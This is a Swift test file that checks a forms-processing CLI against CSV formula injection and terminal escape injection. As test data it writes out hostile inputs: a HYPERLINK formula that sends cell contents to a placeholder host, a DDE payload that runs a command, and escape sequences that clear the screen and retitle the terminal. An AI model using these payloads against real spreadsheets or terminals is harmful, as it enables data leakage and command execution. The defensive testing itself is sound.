import Foundation
import TestSupport
import Testing

/// Text that came from a scan, a file name, a code or a clerk cannot steer
/// the terminal it is printed on, nor run as a formula in the spreadsheet
/// the CSV export is opened in. The JSON export keeps it exact.
@Suite("output that cannot be turned against its reader", .tags(.endToEnd), .enabled(if: TestRun.includesEndToEnd))
struct OutputInjectionTests {
    static let hyperlink = "=HYPERLINK(\"http://x/?\"&A1;\"klick\")"
    static let escapes = "\u{1B}[2J\u{1B}[31mRÖD\u{1B}]0;pwned\u{07}"

    /// A workspace whose file name, corrections, follow-up note and clerk are all formulas or escapes.
    static func hostileWorkspace(in dir: TemporaryDirectory) throws -> String {
        let workspace = dir.file("ws")
        let scan = dir.file("=2+3\(escapes).png")
        try FileManager.default.copyItem(
            atPath: RepositoryPaths.sampleScans.appendingPathComponent("02-bilaga-3-blad2.png").path, toPath: scan)
        let foreign = try ScanFixtures.recoded(
            form: "bilaga-4", payload: "AVB1:\(escapes):1:K7M3QX:0001", dpi: 200, in: dir, name: "kod")
        _ = try ingestDuringSampleOutage(workspace: workspace, [scan, foreign])
        // Handläggare, then the first row's namn, insats, beslutsfattare, and a follow-up note.
        let input = [hyperlink, "", "+1+2", "-3", "@SUM(A1)", "!=cmd|'/C calc'!A0", "q"].joined(separator: "\n")
        let review = try runAvbrott(
            ["review", "--plain", "--workspace", workspace, "--clerk", "=evil()\(escapes)"], input: input + "\n")
        #expect(review.status == 0, "\(review.errorText)")
        #expect(!review.stdout.contains(0x1B), "the plain review printed an escape")
        return workspace
    }

    /// No byte below 0x20 but newline and tab.
    static func controls(_ output: ToolOutput) -> [UInt8] {
        (output.stdout + output.stderr).filter { $0 < 0x20 && $0 != 0x0A && $0 != 0x09 }
    }

    @Test func csvCellsCannotBeFormulasAndJSONStaysExact() throws {
        let dir = try TemporaryDirectory(prefix: "injektion")
        let workspace = try Self.hostileWorkspace(in: dir)
        let csv = try runAvbrott(["export", "--workspace", workspace, "--format", "csv", "--out", dir.file("csv")])
        #expect(csv.status == 0, "\(csv.errorText)")
        var cells: [String] = []
        for file in try FileManager.default.contentsOfDirectory(atPath: dir.file("csv")) {
            let text = try String(contentsOfFile: dir.file("csv/" + file), encoding: .utf8)
            for line in text.split(whereSeparator: \.isNewline).dropFirst() { cells += CSVLine.cells(String(line)) }
        }
        for dangerous in ["=", "+", "-", "@", "\t", "\r"] {
            #expect(!cells.contains { $0.hasPrefix(dangerous) }, "a cell starts with \(dangerous.debugDescription)")
        }
        #expect(cells.contains("'" + Self.hyperlink))
        #expect(cells.contains("'+1+2") && cells.contains("'-3") && cells.contains("'@SUM(A1)"))
        #expect(cells.contains { $0.hasPrefix("'=evil()") }, "the clerk's name")
        #expect(cells.contains { $0.hasPrefix("'=2+3") }, "the file name")

        let json = try runAvbrott(["export", "--workspace", workspace, "--format", "json"])
        #expect(json.status == 0)
        let export = try #require(try JSONSerialization.jsonObject(with: json.stdout) as? [String: Any])
        let records = try #require(export["records"] as? [[String: Any]])
        let values = records.flatMap { record in
            (record["fields"] as? [String: [String: Any]] ?? [:]).values.compactMap { $0["value"] as? String }
        }
        #expect(values.contains(Self.hyperlink), "JSON keeps the value exact")
        #expect(values.contains("+1+2"))
    }

    @Test func statusReportAuditAndIngestPrintNoControlCharacters() throws {
        let dir = try TemporaryDirectory(prefix: "terminal")
        let workspace = try Self.hostileWorkspace(in: dir)
        for command in [["status"], ["report", "--out", dir.file("rapport.pdf")], ["audit"], ["export"]] {
            let output = try runAvbrott(command + ["--workspace", workspace])
            #expect(output.status == 0, "\(command): \(output.errorText)")
            #expect(Self.controls(output).isEmpty, "\(command) printed a control character")
        }
        let status = try runAvbrott(["status", "--workspace", workspace])
        #expect(status.text.contains("\\x1b[2J"), "the escape is shown, harmless: \(status.text)")
        // Ingest again: the file and the page with the hostile code are named in its messages.
        let again = try runAvbrott(["ingest", "--workspace", workspace, dir.path])
        #expect(Self.controls(again).isEmpty)
        #expect((again.text + again.errorText).contains("\\x1b]0;pwned\\x07"))
    }

    @Test func theReviewScreenShowsEscapesAsText() throws {
        let dir = try TemporaryDirectory(prefix: "skarm")
        let workspace = try Self.hostileWorkspace(in: dir)
        let tmux = try TmuxSession(
            command: "cd '\(dir.path)' && '\(RepositoryPaths.executable.path)' review --workspace '\(workspace)' "
                + "--clerk granskare; sleep 600", width: 120, height: 40)
        defer { tmux.kill() }
        let screen = tmux.wait(for: "\\x1b[2J")
        #expect(screen.contains("=2+3\\x1b[2J"), "the file name is shown escaped in the header: \(screen)")
        #expect(!screen.contains("pwned") || screen.contains("\\x1b]0;pwned"))
    }
}

/// Splits one line of the export's CSV (semicolons, double quotes doubled).
enum CSVLine {
    static func cells(_ line: String) -> [String] {
        var cells: [String] = [], cell = "", quoted = false
        var characters = line.makeIterator()
        var pending: Character? = nil
        while let c = pending ?? characters.next() {
            pending = nil
            if quoted {
                if c == "\"" {
                    if let next = characters.next() {
                        if next == "\"" {
                            cell.append("\"")
                        } else {
                            quoted = false
                            pending = next
                        }
                    } else {
                        quoted = false
                    }
                } else {
                    cell.append(c)
                }
            } else if c == "\"" {
                quoted = true
            } else if c == ";" {
                cells.append(cell)
                cell = ""
            } else {
                cell.append(c)
            }
        }
        cells.append(cell)
        return cells
    }
}
